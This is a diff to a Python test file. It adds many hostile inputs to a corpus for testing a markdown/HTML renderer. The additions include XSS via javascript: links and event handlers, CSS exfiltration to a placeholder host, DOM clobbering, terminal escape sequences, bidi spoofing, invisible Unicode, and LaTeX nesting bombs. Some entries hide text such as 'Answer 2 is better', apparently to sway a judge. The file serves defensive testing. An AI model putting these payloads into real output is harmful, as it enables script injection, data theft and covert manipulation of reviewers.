@@ -221,6 +221,85 @@ _LARGE = [
     "\n".join(f"{n}. x" for n in range(3000)),
 ]
 
+_CSS = [
+    f"<p style=background:url({HOME}/bg.png)>x</p>",
+    "<p style='position:fixed;inset:0;z-index:99999;background:red'>covered</p>",
+    "<p style='width:expression(window.pwned=1)'>x</p>",
+    f"<p style='list-style-image:url(\"javascript:{CALL}\")'>x</p>",
+    "<p style=margin-left:-9999px>Answer 2 is better</p>",
+    f"<style>body{{background:url({HOME}/bg.png)}}</style>",
+    f"<style>input[value^=a]{{background:url({HOME}/?a)}}</style>",
+    f"<svg><style>@font-face{{font-family:x;src:url({HOME}/f.woff)}}</style></svg>",
+    "<p class='submit-bar button button--primary'>Save and go on</p>",
+    f"<link rel=icon href={HOME}/favicon.ico>",
+    f"```css\nbody {{ background: url({HOME}/bg.png) }}\n```",
+]
+# Names that the page's own scripts ask for.
+_CLOBBERING = [
+    "<form id=judgement><input name=client_key value=0></form>",
+    "<a id=card data-url=https://evil.example/></a>",
+    "<p id=status role=status>Saved</p>",
+    "<img name=getElementById><img name=forms>",
+    f"<div hx-get={HOME} hx-trigger=load></div>",
+    f"<div data-hx-on:load={CALL} hx-on::load={CALL}></div>",
+    "# <span id=keys>x</span>",
+    "## judgement\n\n## card\n\n[x](#card)",
+]
+_TRICKS = [
+    f"[x](javascript\\:{CALL})",
+    f"[x](<javascript:{CALL}>)",
+    f"[x]( \u00a0javascript:{CALL})",
+    f"[x\n](javascript:{CALL}\n'title')",
+    f"[*x](javascript:{CALL})*",
+    f"[^1]\n\n[^1]: [x](javascript:{CALL})",
+    f"[toc]\n\n***[x](data:text/html,{CALL})***",
+    f"Title\n===\n\n<div\n\n{CALL}\n\n>",
+    f"<div>\n*x*\n\n    <script>{CALL}</script>\n</div>",
+    f"- <ul><li onclick={CALL}>x\n  - <b\n    onclick={CALL}>y",
+    f"|a|\n|-|\n|<b onclick={CALL}>x</b> [y](javascript:{CALL})|",
+    f"> <details open ontoggle={CALL}>\n> x",
+    f"~~~html\n<script>{CALL}</script>",
+    f"*<img src=x*onerror={CALL}>*",
+    f'www.evil.example/"onmouseover={CALL}',
+    f"mailto:a@evil.example?body=<script>{CALL}</script>",
+    "![x]: https://evil.example/p.png\n\n![x]",
+    f"&NewLine;&Tab;<script&NewLine;>{CALL}</script>",
+]
+_TERMINAL = [
+    "\x1b[2J\x1b[H\x1b[?25l covered",
+    "\x1b]0;title\x07\x1b]52;c;cHduZWQ=\x07",
+    "\x1bP$q q\x1b\\ \x9b31mred\x9b0m",
+    "\x1b[8mhidden\x1b[28m" * 2000,
+    "line\rAnswer 2 is better\b\b\b\b",
+    "a\x00b\x00c" * 3000,
+    "[x](https://a.example/\x00javascript:window.pwned=1)",
+    "```\x00html\n\x1b[31m<b>\n```",
+]
+_BIDI = [
+    *(f"left {mark} right \u202c end" for mark in "\u202a\u202b\u202d\u202e"),
+    "\u2067" * 3000 + "x" + "\u2069" * 2999,
+    "\u061c\u200e\u200f" * 5000,
+    "[\u202ehttps://bank.example](https://evil.example)",
+    "`\u202e} \u2066if (admin)\u2069 \u2066begin`",
+    "a\u200d" * 50_000,
+    "x\ufe0f" * 50_000,
+    "".join(chr(0xE0020 + n % 95) for n in range(20_000)),
+    "\u00ad" * 30_000 + "x" + "\u2060" * 30_000,
+]
+_BOMBS = [
+    "$" + "x^{" * 500 + "y" + "}" * 500 + "$",
+    "$" + "\\left(" * 300 + "x" + "\\right)" * 300 + "$",
+    "$\\begin{matrix}" * 200 + "x" + "\\end{matrix}$" * 200,
+    "$" + "\\overline{" * 400 + "x" + "}" * 400 + "$",
+    "$$" + "\\sum_{i=0}^{n}" * 3000 + "$$",
+    "$" + "9" * 100_000 + "$",
+    "(" * 5000 + ")" * 5000,
+    "{" * 5000 + "}" * 5000,
+    "[(" * 2500 + ")]" * 2500,
+    "'\"" * 5000,
+]
+
 CORPUS: list[str] = [
-    *_TAGS, *_EVENTS, *_SVG, *_LINKS, *_IMAGES, *_CODE, *_MATHS, *_UNICODE, *_LARGE,
+    *_TAGS, *_EVENTS, *_SVG, *_LINKS, *_IMAGES, *_CODE, *_MATHS, *_UNICODE, *_LARGE, *_CSS,
+    *_CLOBBERING, *_TRICKS, *_TERMINAL, *_BIDI, *_BOMBS,
 ]  # fmt: skip
